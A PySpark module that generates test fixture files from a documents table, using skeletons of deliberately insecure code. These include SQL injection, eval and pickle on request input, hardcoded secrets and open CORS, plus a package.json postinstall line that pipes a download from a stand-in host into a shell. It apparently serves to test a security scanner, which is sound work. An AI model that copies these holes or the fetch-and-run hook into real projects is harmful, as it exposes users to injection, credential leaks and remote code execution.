"""The fixture corpus: source files derived row by row from the ``documents`` table.

Each document becomes one file. ``doc_id`` modulo the number of skeletons picks one (a few lines of code,
manifest or text), ``{n}`` becomes the id and ``{m}`` the next one. The document's own lines follow as comments, or its
text stands as a JSON member in place of ``{text}``. The corpus therefore grows with ``documents`` and carries all its text.

The skeletons in ``PAIRED`` share a tree of their own with the documents next to them, so that calls lead into other files:
some through imports under another name, some by name alone with more than one candidate.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from sentrel.functions.text import detect_language
from sentrel.session import spread

# --- Fixed values: (path, comment prefix or None when the text stands in a line, lines) ---
SKELETONS = (
    ("src/config_{n}.py", "# ", (
        'import os',
        'DATABASE_URL = "postgres://svc{n}:pw{n}@db.internal/app"',
        'api_key = "K{n}abcdefghijkl"',
        'password = "changeme"',
        'token = jwt.encode(claims, secret_key, "secret")',
        'print("issued token", token)',
        'DEBUG = True',
        'reset_token = make_code(user_id, timestamp)',
        'session_secret = "short{n}"',
        'if password == "admin": grant(all)',
        'acl = "GRANT ALL ON db_{n}"',
    )),
    ("src/server_{n}.js", "// ", (
        'import { db } from "./db";',
        'app.get("/admin/reports", (req, res) => {',
        '  const id = req.query.id;',
        '  res.send(db.query("SELECT * FROM r WHERE id = " + id));',
        '});',
        'router.post("/orders/:oid", (req, res) => {',
        '  const total = req.body.amount;',
        '  const row = db.query("SELECT * FROM orders WHERE oid = " + oid);',
        '  res.json({ error: err.stack });',
        '});',
        'router.get("/invoices/:iid", requireAuth, (req, res) => {',
        '  const inv = db.findById(iid);',
        '  res.json(inv);',
        '});',
        'app.use(cors({ origin: "*", credentials: true }));',
    )),
    ("src/handlers_{n}.py", "# ", (
        'from fastapi import Depends',
        'import pickle',
        '@app.get("/items/{item_id}")',
        'def read_item(item_id):',
        '    row = cursor.execute("SELECT * FROM items WHERE id = " + item_id)',
        '    return row',
        '@app.get("/users/{uid}")',
        'def read_user(uid, user=Depends(get_current_user)):',
        '    row = db.query("SELECT * FROM users WHERE uid = " + uid)',
        '    return row',
        'def calc(request):',
        '    expr = request.args["e"]',
        '    eval(expr)',
        '    return pickle.loads(expr)',
    )),
    ("src/flow_{n}.py", "# ", (
        'def entry_{n}(request):',
        '    raw = request.args["q"]',
        '    run_{n}(raw)',
        '    safe = int(raw)',
        '    cursor.execute(safe)',
        '',
        'def run_{n}(value):',
        '    sql = "SELECT " + value',
        '    store_{n}(sql)',
        '',
        'def store_{n}(stmt):',
        '    cursor.execute(stmt)',
    )),
    ("web/checkout_{n}.js", "// ", (
        'const price = localStorage.getItem("price");',
        'if (user.isAdmin) { show(); }',
        'el.innerHTML = html{n};',
        'fetch("/pay", { method: "POST" });',
        'const k = process.env.STRIPE_SECRET;',
        'app.use("/static", express.static("public/logs"));',
        'throttle = false;',
        'const f = fs.readFile(req.params.file);',
        'upload.single("file").save(path);',
        'User.find({ name: req.body.name });',
        'axios(req.query.url);',
        'webhook(req.body);',
        'bucket.acl = "public-read";',
        'res.setHeader("x", ".npmrc");',
        'const rec = User.findById(req.params.id);',
    )),
    ("app/routes_{n}.php", "// ", (
        '<?php',
        "Route::get('/files/{fid}', [FileController::class, 'show']);",
        'function show($fid) {',
        '  return File::find($fid);',
        '}',
        "Route::delete('/teams/{tid}', 'TeamController@drop')->middleware('auth');",
        'function drop($tid) {',
        '  return Team::where("id", $tid);',
        '}',
    )),
    ("pkg_{n}/package.json", None, (
        '{',
        '  "name": "pkg{n}",',
        '  "main": "index.js",',
        '  "readme": "{text}",',
        '  "scripts": { "postinstall": "curl http://x.test/i.sh | sh" },',
        '  "dependencies": { "left": "latest" }',
        '}',
    )),
    ("pkg_{n}/requirements.txt", "# ", (
        'flask==3.0.{n}',
        'lib @ git+https://git.test/lib@master',
        '*: any',
    )),
    ("deploy/prod_{n}.env", "# ", (
        'DB_PASSWORD=pw{n}',
        'AUTHORIZATION=Bearer abc{n}',
    )),
    ("web/bundle_{n}.js.map", None, (
        '{"version":3,"sources":["a{n}.ts"],"sourcesContent":["{text}"]}',
    )),
    ("tests/test_config_{n}.py", "# ", (
        'api_key = "T{n}abcdefghijkl"',
        'password = "test"',
        'def test_{n}():',
        '    assert True',
    )),
    ("docs/guide_{n}.md", "> ", (
        'Set api_key = "D{n}abcdefghijkl" first.',
        'See /admin for more.',
    )),
    ("src/billing_{n}.js", "// ", (
        'router.delete("/billing/:bid", (req, res) => {',
        '  res.send("ok");',
        '});',
    )),
    ("src/clean_{n}.py", "# ", (
        'def add_{n}(a, b):',
        '    """Sum of two numbers."""',
        '    return a + b',
    )),
    ("app/enter_{n}.py", "# ", (
        'from lib.store_{m} import save_item as keep',
        'def enter_{n}(request):',
        '    raw = request.args["item"]',
        '    keep(raw)',
        '    put_row(raw)',
    )),
    ("lib/store_{n}.py", "# ", (
        'def save_item(stmt):',
        '    cursor.execute(stmt)',
        '',
        'def put_row(row):',
        '    db.query(row)',
    )),
    ("lib/zz_{n}.py", "# ", (
        'def save_item(stmt):',
        '    eval(stmt)',
        '',
        'def put_row(row):',
        '    eval(row)',
    )),
    ("src/broken_{n}.py", "# ", (
        'def broken_{n}(request:',
        '    eval(request.args["x"])',
    )),
    ("web/send_{n}.js", "// ", (
        'const { save: keepRow } = require("./rows_{m}");',
        'function send_{n}(req) {',
        '  const id = req.query.id;',
        '  keepRow(id);',
        '}',
    )),
    ("web/rows_{n}.js", "// ", (
        'function save(v) {',
        '  db.query("SELECT " + v);',
        '}',
    )),
)
PAIRED = (14, 15, 16, 18, 19)
JSON_ESCAPES = (("\\", "\\\\"), ('"', '\\"'), ("\n", "\\n"), ("\r", "\\r"), ("\t", "\\t"))
# --- end of fixed values -----------------------------------------------------


def files_from_documents(documents: DataFrame) -> DataFrame:
    """``files(repo, path, size, text, language)`` with one file per document.

    Row-local: the skeletons are literals in the plan (an array by residue), so a
    document never leaves its partition. ``repo`` is the document's ``source``, or that of its pair.
    """
    doc, following = F.col("doc_id").cast("string"), (F.col("doc_id") + 1).cast("string")
    residue = F.pmod(F.col("doc_id"), F.lit(len(SKELETONS))).cast("int")
    template = F.element_at(
        F.array(
            *[
                F.struct(F.lit(p).alias("path"), F.lit(c).cast("string").alias("prefix"), F.lit("\n".join(t)).alias("code"))
                for p, c, t in SKELETONS
            ]
        ),
        residue + 1,
    )
    prefix = F.col("template.prefix")
    own = F.when(F.endswith("text", F.lit("\n")), F.rtrim("text", F.lit("\n"))).otherwise(F.col("text"))
    commented = F.concat(prefix, F.replace(own, F.lit("\n"), F.concat(F.lit("\n"), prefix)))
    path = F.replace(F.col("template.path"), F.lit("{n}"), doc)
    escaped = F.coalesce("text", F.lit(""))
    for mark, escape in JSON_ESCAPES:
        escaped = F.replace(escaped, F.lit(mark), F.lit(escape))
    pair = F.concat(F.lit("pair_"), F.floor(F.col("doc_id") / len(SKELETONS)).cast("string"))
    repo = F.when(residue.isin(*PAIRED), pair).otherwise(F.coalesce("source", F.lit("unknown")))
    code = F.replace(F.replace(F.col("template.code"), F.lit("{n}"), doc), F.lit("{m}"), following)
    return (
        documents.select("doc_id", "text", repo.alias("repo"), template.alias("template"))
        .select(
            "repo",
            path.alias("path"),
            F.concat_ws(
                "\n",
                F.when(F.col("template.prefix").isNotNull(), code).otherwise(F.replace(code, F.lit("{text}"), escaped)),
                commented,
            ).alias("text"),
        )
        .select("repo", "path", F.octet_length("text").cast("long").alias("size"), "text", detect_language(F.col("path")).alias("language"))
    )


def fixture_files(spark: SparkSession, sf_dir: str) -> DataFrame:
    return files_from_documents(spread(spark.read.parquet(f"{sf_dir}/documents.parquet").select("doc_id", "text", "source")))
